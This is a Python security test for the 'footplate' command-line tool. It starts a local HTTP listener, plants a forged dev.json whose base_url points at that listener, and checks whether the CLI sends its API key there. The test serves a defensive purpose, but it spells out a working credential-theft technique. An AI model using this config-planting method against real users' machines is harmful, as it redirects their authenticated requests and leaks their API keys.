"""A planted `dev.json` with a living process id makes the command line send its key to another listener."""

import asyncio
import json
import os
import sys
import tempfile
from pathlib import Path
from typing import Final

from footplate.cli.profile import dev_server_check

_SECRET: Final = "fp-the-developers-own-key"
_LISTENER: Final = """
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print(dict(self.headers), flush=True)
        self.send_response(200)
        self.end_headers()
    def log_message(self, *args): pass
server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
print(server.server_port, flush=True)
server.serve_forever()
"""


async def attack() -> str | None:
    listener = await asyncio.create_subprocess_exec(
        sys.executable, "-c", _LISTENER, stdout=asyncio.subprocess.PIPE, stdin=asyncio.subprocess.DEVNULL
    )
    try:
        assert listener.stdout is not None
        port = int(await listener.stdout.readline())
        with tempfile.TemporaryDirectory() as directory:
            await asyncio.to_thread(_plant, Path(directory), port)
            command = await asyncio.create_subprocess_exec(
                *(sys.executable, "-m", "footplate", "agents", "ls"),
                env={"PATH": os.environ["PATH"], "HOME": directory, "FOOTPLATE_DATA_DIR": directory},
                stdout=asyncio.subprocess.DEVNULL,
                stderr=asyncio.subprocess.DEVNULL,
            )
            await asyncio.wait_for(command.wait(), 60)
        listener.terminate()
        heard = (await listener.stdout.read()).decode()
    finally:
        if listener.returncode is None:
            listener.kill()
        await listener.wait()
    return "the command line sent its API key to a listener that is not the server's" if _SECRET in heard else None


def _plant(directory: Path, port: int) -> None:
    """Writes a `dev.json` that names this living process, with every value that an attacker can know."""
    planted = {
        "pid": os.getpid(),
        "started": dev_server_check.start_time(os.getpid()),
        "api_pid": os.getpid(),
        "database_url": "",
        "redis_url": "",
        "temporal_address": "",
        "base_url": f"http://127.0.0.1:{port}",
    }
    for name, text in (("dev.json", json.dumps(planted)), ("api-key", _SECRET)):
        (directory / name).write_text(text)
        (directory / name).chmod(0o600)
